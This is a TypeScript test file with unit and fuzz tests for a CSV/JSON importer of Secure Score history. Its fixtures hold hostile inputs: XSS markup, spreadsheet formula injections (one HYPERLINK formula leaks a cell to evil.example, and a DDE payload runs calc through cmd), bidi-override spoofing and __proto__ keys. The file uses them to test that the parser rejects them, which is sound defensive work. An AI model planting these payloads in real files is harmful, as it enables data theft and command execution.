import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { toCsv, toJson } from '../../src/lib/history/export-formats';
import { MAX_IMPORT_BYTES, MAX_IMPORT_ROWS, parseImportFile, type ParsedImport } from '../../src/lib/history/import-parser';
import type { Reading } from '../../src/lib/history/reading';
import { EARLIEST_READING_TIME, FUTURE_TOLERANCE_MS, MAX_NOTE_LENGTH, MAX_SCORE, checkNote } from '../../src/lib/history/reading-rules';
import type { Ok, Result } from '../../src/lib/util/result';

const NOW = Date.UTC(2026, 10, 28, 12);
const DAY = 24 * 60 * 60 * 1000;
const TENANT = '6f1c2a3b-4d5e-4f60-8a7b-9c0d1e2f3a4b';
const OTHER = 'aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee';
const HEADER = 'time,score,tenant,note';
const T1 = '2026-11-27T09:15:00.000Z';
const T2 = '2026-11-28T09:15:00.000Z';

const parse = (name: string, text: string, defaultTenantId?: string) => parseImportFile(name, text, { now: NOW, defaultTenantId });
const csvFile = (...rows: string[]) => [HEADER, ...rows].join('\r\n') + '\r\n';
const jsonFile = (readings: unknown[], envelope: Record<string, unknown> = {}) =>
  JSON.stringify({ app: 'Scoreline', format: 'scoreline.history', version: 1, exportedAt: T2, tenants: [], readings, ...envelope });

function parsed(result: Result<ParsedImport, string>): ParsedImport {
  if (!result.ok) throw new Error(`refused: ${result.error}`);
  return result.value;
}

function problemOf(result: Result<ParsedImport, string>): string {
  if (result.ok) throw new Error('expected the file to be refused');
  return result.error;
}

/** The one invalid row of a CSV with that single data row. */
function csvRowReason(row: string, defaultTenantId?: string): string | undefined {
  const result = parsed(parse('h.csv', csvFile(row), defaultTenantId));
  expect(result.invalid.length + result.readings.length).toBe(1);
  return result.invalid[0]?.reason;
}

const byKey = (a: Reading, b: Reading) => a.time - b.time || a.tenantId.localeCompare(b.tenantId);

describe('parseImportFile refuses files that cannot be ours', () => {
  it.each(['history.txt', 'history', 'history.csv.exe', 'history.jsonl'])('refuses the file name %j', (name) => {
    expect(problemOf(parse(name, csvFile()))).toBe('Only .csv and .json files exported from Scoreline can be imported.');
  });

  it('accepts .csv and .json in any letter case', () => {
    expect(parse('History.CSV', csvFile()).ok).toBe(true);
    expect(parse('History.Json', jsonFile([])).ok).toBe(true);
  });

  it.each(['', '   ', '\uFEFF', '\uFEFF\r\n\r\n\t'])('refuses an empty file %j', (text) => {
    expect(problemOf(parse('h.csv', text))).toBe('The file is empty.');
  });

  it('refuses a file larger than MAX_IMPORT_BYTES before reading it', () => {
    expect(problemOf(parse('h.csv', HEADER + '\n' + 'x'.repeat(MAX_IMPORT_BYTES)))).toMatch(/larger than 20 MB/);
  });

  it.each([
    ['cut off', jsonFile([]).slice(0, 40)],
    ['not JSON at all', '{ this is not json'],
    ['followed by junk', jsonFile([]) + 'x'],
  ])('refuses JSON that does not parse (%s)', (_, text) => {
    expect(problemOf(parse('h.json', text))).toBe('The file is truncated or is not JSON.');
  });

  it.each([
    ['another app', jsonFile([], { app: 'Other' })],
    ['another format', jsonFile([], { format: 'scoreline.settings' })],
    ['no app', JSON.stringify({ readings: [] })],
    ['an array', '[1, 2, 3]'],
  ])('refuses JSON from %s', (_, text) => {
    expect(problemOf(parse('h.json', text))).toBe('The file is JSON, but not a history exported from Scoreline.');
  });

  it('refuses a file from a newer version of Scoreline', () => {
    expect(problemOf(parse('h.json', jsonFile([], { version: 2 })))).toMatch(/made by a newer version of Scoreline/);
  });

  it.each([0, '1', null, 1.5 - 1.5])('refuses the unknown version %j', (version) => {
    expect(problemOf(parse('h.json', jsonFile([], { version })))).toBe('The file has a format version that Scoreline does not know.');
  });

  it('refuses our JSON without a list of readings', () => {
    expect(problemOf(parse('h.json', jsonFile([], { readings: {} })))).toBe('The file has no list of readings.');
  });

  it.each([
    ['no header', `${T1},300,${TENANT},\r\n`],
    ['another header', 'date,value\r\n'],
    ['columns in another order', 'score,time,tenant,note\r\n'],
    ['an unknown extra column', 'time,score,tenant,note,tenant_label,colour\r\n'],
    ['too few columns', 'time,score\r\n'],
  ])('refuses a CSV with %s', (_, text) => {
    expect(problemOf(parse('h.csv', text))).toBe(
      'The file is not a CSV exported from Scoreline: its first line must be time,score,tenant,note.',
    );
  });

  it('accepts the header in any letter case, with or without the note and label columns', () => {
    for (const header of ['TIME,Score,Tenant,NOTE', 'time,score,tenant', ' time , score , tenant ', 'time,score,tenant,note,tenant_label', '"time","score","tenant"']) {
      expect(parsed(parse('h.csv', `${header}\r\n${T1},300,${TENANT}\r\n`)).readings).toHaveLength(1);
    }
  });

  it(`refuses more than ${MAX_IMPORT_ROWS} rows`, () => {
    const tooMany = /more than 200,000 readings/;
    expect(problemOf(parse('h.csv', HEADER + '\n' + 'x\n'.repeat(MAX_IMPORT_ROWS + 1)))).toMatch(tooMany);
    expect(problemOf(parse('h.json', jsonFile(new Array(MAX_IMPORT_ROWS + 1).fill(null))))).toMatch(tooMany);
    expect(parse('h.csv', HEADER + '\n' + 'x\n'.repeat(MAX_IMPORT_ROWS)).ok).toBe(true);
  });
});

describe('parseImportFile skips invalid CSV rows and says why', () => {
  it.each([
    ['yesterday', 'the time "yesterday" is not an ISO 8601 date and time with a zone, such as 2026-11-28T09:15:00Z'],
    ['2026-11-27 09:15:00Z', 'the time "2026-11-27 09:15:00Z" is not an ISO 8601 date and time with a zone, such as 2026-11-28T09:15:00Z'],
    ['2026-11-27T09:15:00', 'the time "2026-11-27T09:15:00" is not an ISO 8601 date and time with a zone, such as 2026-11-28T09:15:00Z'],
    ['2026-02-30T00:00:00Z', 'the time "2026-02-30T00:00:00Z" is not an ISO 8601 date and time with a zone, such as 2026-11-28T09:15:00Z'],
    ['1764320100000', 'the time "1764320100000" is not an ISO 8601 date and time with a zone, such as 2026-11-28T09:15:00Z'],
    ['', 'has no time'],
    ['2014-12-31T23:59:59.999Z', 'the time is before 2015, when Secure Score did not exist yet'],
    [new Date(NOW + DAY + 1).toISOString(), 'the time is in the future'],
    ['9999-12-31T23:59:59Z', 'the time is in the future'],
  ])('time %j: %s', (time, reason) => {
    expect(csvRowReason(`${time},300,${TENANT},`)).toBe(reason);
  });

  it('accepts times at the edges: 1 January 2015 and one day ahead of now, and any zone', () => {
    expect(csvRowReason(`2015-01-01T00:00:00Z,300,${TENANT},`)).toBeUndefined();
    expect(csvRowReason(`${new Date(NOW + DAY).toISOString()},300,${TENANT},`)).toBeUndefined();
    const result = parsed(parse('h.csv', csvFile(`2026-11-27T10:15:00.1234567+01:00,300,${TENANT},`)));
    expect(result.readings[0]?.time).toBe(Date.parse('2026-11-27T09:15:00.123Z'));
  });

  it.each([
    ['1e400', 'the score "1e400" is not a plain number of points, such as 301.5'],
    ['1e2', 'the score "1e2" is not a plain number of points, such as 301.5'],
    ['Infinity', 'the score "Infinity" is not a plain number of points, such as 301.5'],
    ['NaN', 'the score "NaN" is not a plain number of points, such as 301.5'],
    ['0x1F', 'the score "0x1F" is not a plain number of points, such as 301.5'],
    ['-5', 'the score "-5" is not a plain number of points, such as 301.5'],
    ['+5', 'the score "+5" is not a plain number of points, such as 301.5'],
    ['.5', 'the score ".5" is not a plain number of points, such as 301.5'],
    ['5.', 'the score "5." is not a plain number of points, such as 301.5'],
    ['=1+1', 'the score "=1+1" is not a plain number of points, such as 301.5'],
    ['', 'has no score'],
    ['100000.01', 'the score is more than 100000 points'],
  ])('score %j: %s', (score, reason) => {
    expect(csvRowReason(`${T1},${score},${TENANT},`)).toBe(reason);
  });

  it('refuses a score of 400 digits as too large rather than reading it as Infinity', () => {
    expect(csvRowReason(`${T1},${'9'.repeat(400)},${TENANT},`)).toBe('the score is more than 100000 points');
  });

  it('reads plain decimal scores exactly, with any number of decimals, and trims spaces around cells', () => {
    const result = parsed(parse('h.csv', csvFile(`${T1},301.123456789,${TENANT},`, ` ${T2} , 0 , ${TENANT} ,`)));
    expect(result.readings.map((r) => r.score)).toEqual([301.123456789, 0]);
    expect(csvRowReason(`${T1},100000,${TENANT},`)).toBeUndefined();
  });

  it.each([
    ['contoso.onmicrosoft.com', 'the tenant "contoso.onmicrosoft.com" is not a tenant ID (a GUID)'],
    [`{${TENANT}}`, `the tenant "{${TENANT}}" is not a tenant ID (a GUID)`],
    ['', 'has no tenant'],
  ])('tenant %j: %s', (tenant, reason) => {
    expect(csvRowReason(`${T1},300,${tenant},`)).toBe(reason);
  });

  it('uses the default tenant only for an empty tenant cell, and keeps tenant IDs in lower case', () => {
    const result = parsed(parse('h.csv', csvFile(`${T1},300,,`, `${T2},301,${OTHER.toUpperCase()},`, `${T2},302`), TENANT));
    expect(result.readings.map((r) => r.tenantId)).toEqual([TENANT, OTHER, TENANT]);
    expect(result.tenantIds).toEqual([TENANT, OTHER]);
    expect(csvRowReason(`${T1},300,,`, 'not-a-guid')).toBe('the tenant "not-a-guid" is not a tenant ID (a GUID)');
  });

  it.each([
    ['a\u0000b', 'the note contains control characters'],
    ['a\tb', 'the note contains control characters'],
    ['a\u001bb', 'the note contains control characters'],
    ['a\u0085b', 'the note contains control characters'],
    ['evil\u202etxt.exe', 'the note contains characters that change the direction of text'],
    ['a\ud800b', 'the note contains broken Unicode text'],
  ])('note %j: %s', (note, reason) => {
    expect(csvRowReason(`${T1},300,${TENANT},"${note}"`)).toBe(reason);
  });

  it('refuses a note longer than 280 characters rather than cutting it short', () => {
    expect(csvRowReason(`${T1},300,${TENANT},${'x'.repeat(MAX_NOTE_LENGTH + 1)}`)).toBe('the note is longer than 280 characters');
  });

  it('trims notes, drops empty ones, and keeps notes of exactly 280 characters', () => {
    const result = parsed(
      parse('h.csv', csvFile(`${T1},300,${TENANT},  padded  `, `${T2},300,${TENANT},"   "`, `2026-11-26T00:00:00Z,300,${TENANT},${'é'.repeat(280)}`)),
    );
    expect(result.readings.map((r) => r.note)).toEqual(['padded', undefined, 'é'.repeat(280)]);
    expect(result.readings[1]).not.toHaveProperty('note');
  });

  it('skips a row whose note holds markup, and keeps text that only looks like it', () => {
    const csv = toCsv([
      { tenantId: TENANT, time: Date.parse(T1), score: 1, note: '<img src=x onerror=alert(1)><script>alert("x")</script>' },
      { tenantId: TENANT, time: Date.parse(T2), score: 2, note: 'score < 400 again <3 & &amp; &lt;' },
    ]);
    const result = parsed(parse('h.csv', csv));
    expect(result.invalid).toEqual([{ line: 2, reason: expect.stringContaining('markup') }]);
    expect(result.readings.map((r) => r.note)).toEqual(['score < 400 again <3 & &amp; &lt;']);
  });

  it('removes the formula guard only where toCsv would have added it', () => {
    const result = parsed(
      parse(
        'h.csv',
        csvFile(`${T1},1,${TENANT},'=SUM(A1)`, `${T2},1,${TENANT},'plain`, `2026-11-26T00:00:00Z,1,${TENANT},''@x`, `2026-11-25T00:00:00Z,1,'${TENANT},`),
      ),
    );
    expect(result.readings.map((r) => r.note)).toEqual(['=SUM(A1)', "'plain", "'@x"]);
    expect(result.invalid).toEqual([{ line: 5, reason: `the tenant "'${TENANT}" is not a tenant ID (a GUID)` }]);
  });

  it('keeps the first of rows with the same tenant and time, reporting the others', () => {
    const result = parsed(parse('h.csv', csvFile(`${T1},300,${TENANT},first`, `${T1},301,${OTHER},other tenant`, `${T1},999,${TENANT},second`, `2026-11-27T10:15:00+01:00,1,${TENANT},`)));
    expect(result.readings.map((r) => r.note)).toEqual(['first', 'other tenant']);
    expect(result.invalid).toEqual([
      { line: 4, reason: 'duplicate of line 2' },
      { line: 5, reason: 'duplicate of line 2' },
    ]);
  });

  it('reports a row with more cells than the header (an unquoted comma in a note)', () => {
    expect(csvRowReason(`${T1},300,${TENANT},patched, rebooted`)).toBe('has more cells than the header; a note with a comma must be in double quotes');
  });

  it('reports text after a closing quote, and keeps reading the next rows', () => {
    const result = parsed(parse('h.csv', csvFile(`${T1},300,${TENANT},"quoted"tail`, `${T2},301,${TENANT},ok`)));
    expect(result.invalid).toEqual([{ line: 2, reason: 'a quoted cell has text after its closing quote' }]);
    expect(result.readings).toHaveLength(1);
  });

  it('gives the line where each row starts, across notes that span lines, skipping blank rows', () => {
    const text = [HEADER, `${T1},300,${TENANT},"two\nlines"`, '', ',,,', `${T2},bad,${TENANT},`, `2026-11-26T00:00:00Z,1,${TENANT},"a\r\nb\rc"`, 'x'].join('\r\n');
    const result = parsed(parse('h.csv', text));
    expect(result.invalid).toEqual([
      { line: 6, reason: 'the score "bad" is not a plain number of points, such as 301.5' },
      { line: 10, reason: 'the time "x" is not an ISO 8601 date and time with a zone, such as 2026-11-28T09:15:00Z' },
    ]);
    expect(result.readings.map((r) => r.note)).toEqual(['two\nlines', 'a\nb\nc']);
  });

  it.each([
    ['CRLF', '\r\n'],
    ['LF', '\n'],
    ['CR', '\r'],
  ])('reads %s line ends, with or without a final line end and a byte order mark', (_, end) => {
    const rows = [HEADER, `${T1},300,${TENANT},a`, `${T2},301,${TENANT},"b, ""c"""`];
    for (const text of [rows.join(end), rows.join(end) + end, '\uFEFF' + rows.join(end)]) {
      const result = parsed(parse('h.csv', text));
      expect(result.readings.map((r) => r.note)).toEqual(['a', 'b, "c"']);
      expect(result.invalid).toEqual([]);
    }
  });

  it('reports a row cut off inside a quoted note and keeps the rows before it', () => {
    const text = toCsv([
      { tenantId: TENANT, time: Date.parse(T1), score: 300, note: 'kept' },
      { tenantId: TENANT, time: Date.parse(T2), score: 301, note: 'a note, cut off here' },
    ]);
    const result = parsed(parse('h.csv', text.slice(0, text.indexOf('cut off'))));
    expect(result.readings).toEqual([{ tenantId: TENANT, time: Date.parse(T1), score: 300, note: 'kept' }]);
    expect(result.invalid).toEqual([{ line: 3, reason: 'the row is cut off: a quoted cell is never closed' }]);
  });

  it('keeps quoted values short and printable in reasons', () => {
    const reason = csvRowReason(`${'\u0007'.repeat(3)}${'9'.repeat(100)},300,${TENANT},`);
    expect(reason).toBe(`the time "\uFFFD\uFFFD\uFFFD${'9'.repeat(37)}…" is not an ISO 8601 date and time with a zone, such as 2026-11-28T09:15:00Z`);
  });
});

describe('parseImportFile skips invalid JSON readings and says why', () => {
  const good = { tenantId: TENANT, time: T1, score: 300 };

  it.each([
    ['null', null, 'is not an object with tenantId, time and score'],
    ['an array', [good], 'is not an object with tenantId, time and score'],
    ['no time', { ...good, time: undefined }, 'has no time text'],
    ['a numeric time', { ...good, time: Date.parse(T1) }, 'has no time text'],
    ['a future time', { ...good, time: '2099-01-01T00:00:00Z' }, 'the time is in the future'],
    ['a text score', { ...good, score: '300' }, 'has no numeric score'],
    ['a negative score', { ...good, score: -1 }, 'the score is negative'],
    ['a huge score', { ...good, score: 1e300 }, 'the score is more than 100000 points'],
    ['no tenant', { ...good, tenantId: undefined }, 'has no tenantId text'],
    ['a bad tenant', { ...good, tenantId: 'contoso' }, 'the tenant "contoso" is not a tenant ID (a GUID)'],
    ['a numeric note', { ...good, note: 5 }, 'has a note that is not text'],
    ['a long note', { ...good, note: 'x'.repeat(281) }, 'the note is longer than 280 characters'],
  ])('a reading with %s', (_, entry, reason) => {
    const result = parsed(parse('h.json', jsonFile([good, entry].map((e, i) => (i === 0 ? { ...e, time: T2 } : e)))));
    expect(result.invalid).toEqual([{ line: 2, reason }]);
    expect(result.readings).toHaveLength(1);
  });

  it('refuses 1e400 (JSON reads it as Infinity)', () => {
    const text = jsonFile([good]).replace('"score":300', '"score":1e400');
    expect(parsed(parse('h.json', text)).invalid).toEqual([{ line: 1, reason: 'the score is more than 100000 points' }]);
  });

  it('reports duplicates by their position in the readings list', () => {
    const result = parsed(parse('h.json', jsonFile([good, { ...good, time: T2 }, { ...good, score: 1, note: 'later' }])));
    expect(result.invalid).toEqual([{ line: 3, reason: 'duplicate of reading 1' }]);
  });

  it('reads only the document’s own keys and ignores unknown ones', () => {
    const text = `{"__proto__":{"app":"Scoreline"},"app":"Scoreline","format":"scoreline.history","version":1,"readings":[{"tenantId":"${TENANT}","time":"${T1}","score":-0,"colour":"red","__proto__":{"note":"x"}}]}`;
    const result = parsed(parse('h.json', text));
    expect(result.readings).toStrictEqual([{ tenantId: TENANT, time: Date.parse(T1), score: 0 }]);
    expect(Object.is(result.readings[0]?.score, 0)).toBe(true);
  });

  it('survives absurdly deep nesting', () => {
    expect(parse('h.json', '{"a":' + '['.repeat(100_000) + ']'.repeat(100_000) + '}').ok).toBe(false);
  });
});

const NOTES_THAT_MUST_SURVIVE = [
  'patched, rebooted, rescanned',
  'the "critical" ones',
  'first line\nsecond line',
  '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
  "'=already quoted",
  '+1 after the GPO',
  '-3: a new CVE',
  '@mention the team',
  'score < 400 & &amp; &lt; <3',
  'x<y and a<b, not tags',
  '<- moved to the new GPO',
  '日本語のメモ — café — 🚀👩🏽‍💻 — مرحبا',
  '"',
  ',',
];

describe('round trips', () => {
  const readings: Reading[] = NOTES_THAT_MUST_SURVIVE.map((note, index) => ({
    tenantId: index % 2 ? TENANT : OTHER,
    time: Date.parse(T1) - index * DAY,
    score: 300 + index / 7,
    note,
  }));
  readings.push({ tenantId: TENANT, time: Date.parse(T2), score: 1e-7 }, { tenantId: OTHER, time: Date.parse(T2), score: 33.491554051195706 });

  it('gives back exactly the same readings from CSV', () => {
    const result = parsed(parse('h.csv', toCsv(readings, new Map([[TENANT, '=evil label, "quoted"']]))));
    expect(result.invalid).toEqual([]);
    expect(result.readings.sort(byKey)).toStrictEqual(readings.slice().sort(byKey));
  });

  it('gives back exactly the same readings from JSON', () => {
    const result = parsed(parse('h.json', toJson({ tenants: [{ tenantId: TENANT, label: 'contoso.example' }], readings }, NOW)));
    expect(result.invalid).toEqual([]);
    expect(result.readings.sort(byKey)).toStrictEqual(readings.slice().sort(byKey));
  });

  it('reads 100,000 readings from CSV and from JSON', () => {
    const many = Array.from({ length: 100_000 }, (_, index) => ({ tenantId: TENANT, time: NOW - index * 60_000, score: 300 + (index % 50), note: index % 10 ? undefined : 'a, "note"' })).map(
      ({ note, ...rest }) => (note ? { ...rest, note } : rest),
    );
    expect(parsed(parse('h.csv', toCsv(many))).readings).toHaveLength(100_000);
    expect(parsed(parse('h.json', toJson({ tenants: [], readings: many }, NOW))).readings).toHaveLength(100_000);
    // A large file on a busy machine: room enough, never a measure of speed (that is the benchmark's).
  }, 60_000);
});

/**
 * What every imported reading satisfies. Stated here on its own, not through the reading rules the
 * parser uses, so that the fuzz tests hold the parser to it rather than to itself.
 */
function isValidReading(value: unknown, now: number): value is Reading {
  if (typeof value !== 'object' || value === null) return false;
  const { tenantId, time, score, note } = value as Partial<Record<keyof Reading, unknown>>;
  return (
    typeof tenantId === 'string' &&
    // A GUID in lower case, as Entra ID writes tenant IDs and the importer keeps them.
    /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/.test(tenantId) &&
    Number.isSafeInteger(time) &&
    (time as number) >= EARLIEST_READING_TIME &&
    (time as number) <= now + FUTURE_TOLERANCE_MS &&
    Number.isFinite(score) &&
    (score as number) >= 0 &&
    (score as number) <= MAX_SCORE &&
    (note === undefined || isValidNote(note))
  );
}

function isValidNote(note: unknown): boolean {
  return (
    typeof note === 'string' &&
    note !== '' &&
    note === note.trim() &&
    note.length <= MAX_NOTE_LENGTH &&
    // Control characters but \n, lone surrogates, bidi overrides.
    !/[^\P{Cc}\n]|\p{Cs}|[\u202a-\u202e\u2066-\u2069]/u.test(note) &&
    // No tags or comments.
    !/<[a-zA-Z/!?][^<>]*>/.test(note)
  );
}

describe('isValidReading, the statement the fuzz tests hold the parser to', () => {
  const valid: Reading = { tenantId: TENANT, time: Date.parse(T1), score: 300, note: 'ok' };

  it('accepts a valid reading and refuses each kind of invalid one', () => {
    expect(isValidReading(valid, NOW)).toBe(true);
    expect(isValidReading({ ...valid, note: undefined }, NOW)).toBe(true);
    for (const bad of [
      null,
      'reading',
      { ...valid, tenantId: TENANT.toUpperCase() },
      { ...valid, tenantId: 'contoso' },
      { ...valid, time: EARLIEST_READING_TIME - 1 },
      { ...valid, time: NOW + FUTURE_TOLERANCE_MS + 1 },
      { ...valid, time: Date.parse(T1) + 0.5 },
      { ...valid, score: -1 },
      { ...valid, score: Infinity },
      { ...valid, score: NaN },
      { ...valid, score: MAX_SCORE + 1 },
      { ...valid, score: '300' },
      { ...valid, note: ' untrimmed' },
      { ...valid, note: '' },
      { ...valid, note: 'tab\there' },
      { ...valid, note: 'x'.repeat(281) },
      { ...valid, note: 5 },
    ]) {
      expect(isValidReading(bad, NOW), JSON.stringify(bad)).toBe(false);
    }
  });
});

// ---------------------------------------------------------------------------------------------
// Properties

const TENANTS = [TENANT, OTHER, '00000000-0000-4000-8000-000000000000'];

/** Characters that stress quoting, the formula guard and Unicode, mixed with anything at all. */
const noteCharacter = fc.oneof(
  fc.constantFrom(',', '"', '\n', '\r', '\t', '=', '+', '-', '@', "'", '<', '>', '&', ' ', '\u00a0', '\u202e', '\u0000', 'é', '🚀'),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
);

const validNote = fc
  .string({ unit: noteCharacter, maxLength: 40 })
  .map((text) => checkNote(text))
  .filter((checked): checked is Ok<string> => checked.ok && checked.value !== undefined)
  .map((checked) => checked.value);

const validReading: fc.Arbitrary<Reading> = fc.record(
  {
    tenantId: fc.oneof(fc.constantFrom(...TENANTS), fc.uuid()),
    time: fc.integer({ min: EARLIEST_READING_TIME, max: NOW + FUTURE_TOLERANCE_MS }),
    score: fc.oneof(
      fc.integer({ min: 0, max: 2000 }),
      fc.double({ min: 0, max: MAX_SCORE, noNaN: true }),
      fc.double({ min: Number.MIN_VALUE, max: 1e-6, noNaN: true }),
      fc.constantFrom(0, MAX_SCORE, 33.491554051195706),
    ),
    note: validNote,
  },
  { requiredKeys: ['tenantId', 'time', 'score'] },
).map((reading) => ({ ...reading })); // fc.record makes objects without a prototype; toStrictEqual would notice

const validReadings = fc.uniqueArray(validReading, { selector: (r) => `${r.tenantId} ${r.time}`, maxLength: 20 });

/** Things an attacker or a broken tool might put into a file, the targeted ones most often. */
const nastyText = fc.oneof(
  {
    weight: 4,
    arbitrary: fc.constantFrom(
      '1e400',
      '-1e400',
      '99999999999999999999999999',
      '100000.5',
      'Infinity',
      'NaN',
      '0x1F',
      '-5',
      '9999-12-31T23:59:59Z',
      '2014-12-31T23:59:59Z',
      '+275760-09-13T00:00:00.000Z',
      '=HYPERLINK("http://evil.example","click")',
      "'=1+1",
      '<img src=x onerror=alert(1)>',
      'note\u0000with NUL',
      'tab\there',
      'evil\u202etxt.exe',
      'broken \ud800 text',
      ' '.repeat(3),
      'x'.repeat(400),
      TENANT.toUpperCase(),
      'not-a-guid',
      '"',
      '""',
      ',',
      '\n',
      '\r\n',
      '\r',
      '\ufeff',
      '{',
      '}',
      '[',
      ']',
      ':',
      'null',
      '"__proto__"',
    ),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ unit: fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code)), maxLength: 6 }) },
);

/** Cell values that are nearly right: each breaks one rule the parser must hold. */
const nearlyValidCell = fc.constantFrom(
  '2014-12-31T23:59:59Z',
  '9999-12-31T23:59:59Z',
  '1e400',
  '100000.5',
  TENANT.toUpperCase(),
  'y'.repeat(MAX_NOTE_LENGTH + 1),
  'note\u0000with NUL',
  'evil\u202etxt.exe',
  '=HYPERLINK("http://evil.example","click")',
  '<img src=x onerror=alert(1)>',
);

type Mutation =
  | { kind: 'truncate'; at: number }
  | { kind: 'insert'; at: number; text: string }
  | { kind: 'replace'; at: number; text: string }
  | { kind: 'delete'; at: number; length: number }
  | { kind: 'duplicate-line'; at: number }
  | { kind: 'replace-cell'; at: number; cell: number; text: string };

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant('truncate' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('insert' as const), at: fc.nat(), text: nastyText }),
  fc.record({ kind: fc.constant('replace' as const), at: fc.nat(), text: nastyText }),
  fc.record({ kind: fc.constant('delete' as const), at: fc.nat(), length: fc.integer({ min: 1, max: 30 }) }),
  fc.record({ kind: fc.constant('duplicate-line' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('replace-cell' as const), at: fc.nat(), cell: fc.nat({ max: 4 }), text: nastyText }),
  fc.record({ kind: fc.constant('replace-cell' as const), at: fc.nat(), cell: fc.nat({ max: 4 }), text: nearlyValidCell }),
);

function mutate(text: string, change: Mutation): string {
  const at = change.at % (text.length + 1);
  switch (change.kind) {
    case 'truncate':
      return text.slice(0, at);
    case 'insert':
      return text.slice(0, at) + change.text + text.slice(at);
    case 'replace':
      return text.slice(0, at) + change.text + text.slice(at + 1);
    case 'delete':
      return text.slice(0, at) + text.slice(at + change.length);
    case 'duplicate-line': {
      const lines = text.split('\n');
      const index = change.at % lines.length;
      lines.splice(index, 0, lines[index] ?? '');
      return lines.join('\n');
    }
    case 'replace-cell': {
      // Crude on purpose: splits on commas and line ends without regard for quotes, as a careless tool would.
      const lines = text.split('\n');
      const index = change.at % lines.length;
      const cells = (lines[index] ?? '').split(',');
      cells[change.cell % cells.length] = change.text;
      lines[index] = cells.join(',');
      return lines.join('\n');
    }
  }
}

/** What every answer of the parser must satisfy, whatever it was given. */
function expectSoundResult(answer: Result<ParsedImport, string>): void {
  if (!answer.ok) {
    expect(typeof answer.error).toBe('string');
    expect(answer.error.length).toBeGreaterThan(0);
    return;
  }
  const result = answer.value;
  const keys = new Set<string>();
  for (const reading of result.readings) {
    expect(isValidReading(reading, NOW), JSON.stringify(reading)).toBe(true);
    expect(Object.keys(reading).every((key) => ['tenantId', 'time', 'score', 'note'].includes(key))).toBe(true);
    const key = `${reading.tenantId} ${reading.time}`;
    expect(keys.has(key)).toBe(false);
    keys.add(key);
  }
  for (const row of result.invalid) {
    expect(Number.isSafeInteger(row.line) && row.line >= 1).toBe(true);
    expect(row.reason.length).toBeGreaterThan(0);
  }
  expect(result.tenantIds).toEqual([...new Set(result.readings.map((r) => r.tenantId))]);
}

describe('properties', () => {
  it('CSV and JSON exports of any valid readings import as exactly the same readings', () => {
    fc.assert(
      fc.property(validReadings, (readings) => {
        const expected = readings.slice().sort(byKey);
        for (const result of [parse('h.csv', toCsv(readings)), parse('h.json', toJson({ tenants: [], readings }, NOW))]) {
          const { readings: imported, invalid } = parsed(result);
          expect(invalid).toEqual([]);
          expect(imported.slice().sort(byKey)).toStrictEqual(expected);
        }
      }),
      { numRuns: 300 },
    );
  });

  it('mutated CSV exports never make the parser throw or let an invalid reading through', () => {
    fc.assert(
      fc.property(validReadings, fc.array(mutation, { minLength: 1, maxLength: 6 }), fc.boolean(), (readings, mutations, withLabels) => {
        const labels = withLabels ? new Map([[TENANT, '=cmd|" /C calc"!A0']]) : undefined;
        const text = mutations.reduce(mutate, toCsv(readings, labels));
        expectSoundResult(parseImportFile('h.csv', text, { now: NOW, defaultTenantId: TENANT }));
      }),
      { numRuns: 400 },
    );
  });

  it('mutated JSON exports never make the parser throw or let an invalid reading through', () => {
    const jsonValue = fc.oneof(nastyText, nearlyValidCell, fc.jsonValue(), fc.constantFrom(1e308, -0, -1, MAX_SCORE + 0.5, 2e-323, '2099-01-01T00:00:00Z'));
    const fieldChange = fc.record({ at: fc.nat(), field: fc.constantFrom('tenantId', 'time', 'score', 'note', 'extra'), value: jsonValue });
    fc.assert(
      fc.property(
        validReadings,
        fc.array(fieldChange, { maxLength: 4 }),
        fc.array(mutation, { maxLength: 3 }),
        (readings, fieldChanges, mutations) => {
          const document = JSON.parse(toJson({ tenants: [], readings }, NOW)) as { readings: Record<string, unknown>[] };
          for (const change of fieldChanges) {
            const entry = document.readings[change.at % Math.max(document.readings.length, 1)];
            if (entry) entry[change.field] = change.value;
          }
          const text = mutations.reduce(mutate, JSON.stringify(document, null, 2));
          expectSoundResult(parse('h.json', text));
        },
      ),
      { numRuns: 400 },
    );
  });

  it('arbitrary text never makes the parser throw', () => {
    const prefix = fc.constantFrom('', '{', '[', '\uFEFF', `${HEADER}\r\n`, `${HEADER}\n${T1},300,`, '{"app":"Scoreline","format":"scoreline.history","version":1,"readings":[');
    const body = fc.oneof(fc.string(), fc.string({ unit: 'binary' }), fc.string({ unit: 'binary-ascii' }));
    fc.assert(
      fc.property(fc.constantFrom('h.csv', 'h.json', 'h.txt', ''), prefix, body, (name, start, rest) => {
        expectSoundResult(parse(name, start + rest));
      }),
      { numRuns: 500 },
    );
  });
});

describe('tenant names in a JSON file', () => {
  it('keeps valid names and leaves out doubtful ones', () => {
    const json = toJson(
      {
        tenants: [
          { tenantId: TENANT, label: 'contoso.example' },
          { tenantId: OTHER, label: '<b>fabrikam</b>' },
        ],
        readings: [{ tenantId: TENANT, time: Date.parse(T1), score: 1 }],
      },
      Date.parse(T2),
    );
    const result = parsed(parse('h.json', json));
    expect(result.tenantLabels).toEqual({ [TENANT]: 'contoso.example' });
  });
});
